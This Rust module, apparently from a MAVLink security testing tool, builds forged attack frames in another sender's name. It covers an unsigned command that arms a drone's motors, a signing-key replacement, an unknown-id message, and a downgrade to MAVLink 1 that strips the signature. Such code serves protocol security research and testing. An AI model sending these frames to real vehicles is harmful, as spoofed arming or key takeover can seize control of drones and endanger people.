//! Messages of the `common` dialect that the attacks send, from the definitions of the public `mavlink` crate.

use mavlink::dialects::common::{COMMAND_LONG_DATA, MavMessage, SETUP_SIGNING_DATA};
use mavlink::{Message, MessageData};

use crate::frame::{Frame, Version};
use crate::signature::Key;

/// Id of COMMAND_LONG, the message of the true sender.
pub const COMMAND_LONG: u32 = COMMAND_LONG_DATA::ID;
/// Id of SETUP_SIGNING.
pub const SETUP_SIGNING: u32 = SETUP_SIGNING_DATA::ID;
/// An id that no message of the dialect has.
pub const UNKNOWN: u32 = 0x00ab_cdef;
/// Payload length of a COMMAND_LONG in MAVLink 1, which cuts no trailing zeros.
pub const COMMAND_LONG_LENGTH: usize = COMMAND_LONG_DATA::ENCODED_LEN;
/// System and component that messages are addressed to.
const TARGET: (u8, u8) = (2, 1);
/// MAV_CMD_COMPONENT_ARM_DISARM.
const ARM: u16 = 400;

/// The seed of a message's checksum in the dialect.
pub fn seed(message: u32) -> u8 {
    MavMessage::extra_crc(message)
}

/// An unsigned MAVLink 2 frame with the sender of `like`.
fn unsigned_like(like: &Frame, message: u32, mut payload: Vec<u8>) -> Frame {
    // MAVLink 2 cuts trailing zeros, but the first byte stays.
    while payload.len() > 1 && payload.last() == Some(&0) {
        payload.pop();
    }
    let mut frame = Frame {
        version: Version::V2 { incompatible: 0, compatible: 0 },
        sequence: like.sequence.wrapping_add(1),
        message,
        payload,
        checksum: 0,
        signature: None,
        ..like.clone()
    };
    frame.seal(seed(message));
    frame
}

/// A command to arm the motors in the name of the sender of `like`.
pub fn arm(like: &Frame, parameter: f32) -> Frame {
    let mut payload = vec![0; 28];
    payload[..4].copy_from_slice(&1f32.to_le_bytes());
    payload[24..28].copy_from_slice(&parameter.to_le_bytes());
    payload.extend(ARM.to_le_bytes());
    payload.extend([TARGET.0, TARGET.1, 0]);
    unsigned_like(like, COMMAND_LONG, payload)
}

/// A change of the key, in the name of the sender of `like`.
pub fn key_change(like: &Frame, key: &Key, timestamp: u64) -> Frame {
    let mut payload = timestamp.to_le_bytes().to_vec();
    payload.extend([TARGET.0, TARGET.1]);
    payload.extend(key);
    unsigned_like(like, SETUP_SIGNING, payload)
}

/// A message that the dialect does not have, in the name of the sender of `like`.
pub fn unknown(like: &Frame, content: [u8; 8]) -> Frame {
    unsigned_like(like, UNKNOWN, content.to_vec())
}

/// The message in MAVLink 1, which has no signature and no cut payload.
pub fn downgraded(of: &Frame) -> Frame {
    let mut frame = Frame { version: Version::V1, signature: None, ..of.clone() };
    if of.message == COMMAND_LONG {
        frame.payload.resize(COMMAND_LONG_LENGTH, 0);
    }
    frame.seal(seed(of.message));
    frame
}
